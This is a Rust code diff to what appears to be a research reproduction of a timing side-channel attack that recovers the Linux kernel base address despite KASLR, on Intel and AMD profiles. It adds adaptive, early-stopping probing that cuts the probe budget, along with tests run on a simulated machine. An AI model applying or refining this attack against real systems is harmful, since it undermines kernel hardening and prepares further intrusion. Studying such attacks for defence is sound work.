@@ -12,6 +12,7 @@
 use avx_mmu::VirtAddr;
 use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};
 
+use crate::adaptive::{AdaptiveMinFilter, AdaptiveSampler};
 use crate::calibrate::Threshold;
 use crate::primitives::{LevelAttack, PageTableAttack};
 use crate::prober::{ProbeStrategy, Prober};
@@ -34,6 +35,9 @@ pub struct KaslrScan {
     pub probing_cycles: u64,
     /// All cycles ("Total" in Table I).
     pub total_cycles: u64,
+    /// Raw probes the sweep issued (warm-ups included) — the budget the
+    /// adaptive engine economizes.
+    pub probes: u64,
 }
 
 impl KaslrScan {
@@ -67,6 +71,14 @@ impl KernelBaseFinder {
         self
     }
 
+    /// Routes the sweep through the adaptive sequential engine: each
+    /// candidate slot is probed only until its classification settles.
+    #[must_use]
+    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
+        self.attack = self.attack.with_adaptive(sampler);
+        self
+    }
+
     /// Probes with masked stores instead of loads. Stores run 16–18
     /// cycles faster under assist (P6), which §IV-F uses to shorten
     /// full-range scans; pair with [`crate::Threshold::calibrate_store`].
@@ -93,17 +105,17 @@ impl KernelBaseFinder {
         let total_before = p.total_cycles();
         let range = Self::candidate_range();
         let start = range.start;
-        let samples = self.attack.measure_addrs(p, &range.to_vec());
+        let sweep = self.attack.sweep(p, &range.to_vec());
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
-        let mapped = self.attack.classify(&samples);
-        let base =
-            first_mapped_run(&mapped, 2).map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));
+        let base = first_mapped_run(&sweep.mapped, 2)
+            .map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));
         KaslrScan {
-            samples,
-            mapped,
+            samples: sweep.samples,
+            mapped: sweep.mapped,
             base,
             probing_cycles: p.probing_cycles() - probing_before,
             total_cycles: p.total_cycles() - total_before,
+            probes: sweep.probes,
         }
     }
 }
@@ -144,6 +156,8 @@ pub struct AmdKaslrScan {
     pub probing_cycles: u64,
     /// Total cycles.
     pub total_cycles: u64,
+    /// Raw probes the sweep issued (warm-ups included).
+    pub probes: u64,
 }
 
 /// The AMD kernel-base finder (§IV-B, Zen 3).
@@ -192,6 +206,14 @@ impl AmdKernelBaseFinder {
         self
     }
 
+    /// Routes the sweep through the early-stopping min-filter: each
+    /// slot is re-probed only until its latency floor stabilizes.
+    #[must_use]
+    pub fn with_early_stop(mut self, filter: AdaptiveMinFilter) -> Self {
+        self.level = self.level.with_early_stop(filter);
+        self
+    }
+
     /// Scans all 512 slots, finds PT-level outliers and matches the
     /// expected split pattern to recover the base. The candidates are
     /// fed through the batched probe pipeline with a min-filter.
@@ -200,7 +222,7 @@ impl AmdKernelBaseFinder {
         let total_before = p.total_cycles();
         let range = KernelBaseFinder::candidate_range();
         let start = range.start;
-        let samples = self.level.measure_addrs(p, &range.to_vec());
+        let (samples, probes) = self.level.measure_counted(p, &range.to_vec());
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
         let outliers = self.level.outliers(&samples);
         let base = self
@@ -212,6 +234,7 @@ impl AmdKernelBaseFinder {
             base,
             probing_cycles: p.probing_cycles() - probing_before,
             total_cycles: p.total_cycles() - total_before,
+            probes,
         }
     }
 
@@ -376,6 +399,58 @@ mod tests {
             }
         }
         assert!(hits >= 7, "{hits}/8");
+    }
+
+    #[test]
+    fn adaptive_scan_finds_base_with_fewer_probes() {
+        use crate::adaptive::AdaptiveSampler;
+        for seed in [21, 22, 23] {
+            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
+            let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
+            m.set_noise(NoiseModel::none());
+            let mut p = SimProber::new(m);
+            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+
+            let fixed = KernelBaseFinder::new(th)
+                .with_strategy(ProbeStrategy::MinOf(8))
+                .scan(&mut p);
+            let adaptive = KernelBaseFinder::new(th)
+                .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
+                .scan(&mut p);
+            assert_eq!(adaptive.base, Some(truth.kernel_base), "seed {seed}");
+            assert_eq!(adaptive.mapped, fixed.mapped, "seed {seed}: same verdicts");
+            assert!(
+                adaptive.probes * 2 <= fixed.probes,
+                "seed {seed}: adaptive {} vs fixed {}",
+                adaptive.probes,
+                fixed.probes
+            );
+        }
+    }
+
+    #[test]
+    fn amd_early_stop_scan_matches_fixed_and_spends_less() {
+        use crate::adaptive::AdaptiveMinFilter;
+        for seed in [31, 32] {
+            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
+            let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
+            m.set_noise(NoiseModel::none());
+            let mut p = SimProber::new(m);
+            let fixed = AmdKernelBaseFinder::for_default_kernel()
+                .with_repeats(8)
+                .scan(&mut p);
+            let adaptive = AmdKernelBaseFinder::for_default_kernel()
+                .with_early_stop(AdaptiveMinFilter::default())
+                .scan(&mut p);
+            assert_eq!(adaptive.base, Some(truth.kernel_base), "seed {seed}");
+            assert_eq!(adaptive.outliers, fixed.outliers, "seed {seed}");
+            assert!(
+                adaptive.probes * 2 <= fixed.probes,
+                "seed {seed}: adaptive {} vs fixed {}",
+                adaptive.probes,
+                fixed.probes
+            );
+        }
     }
 
     #[test]
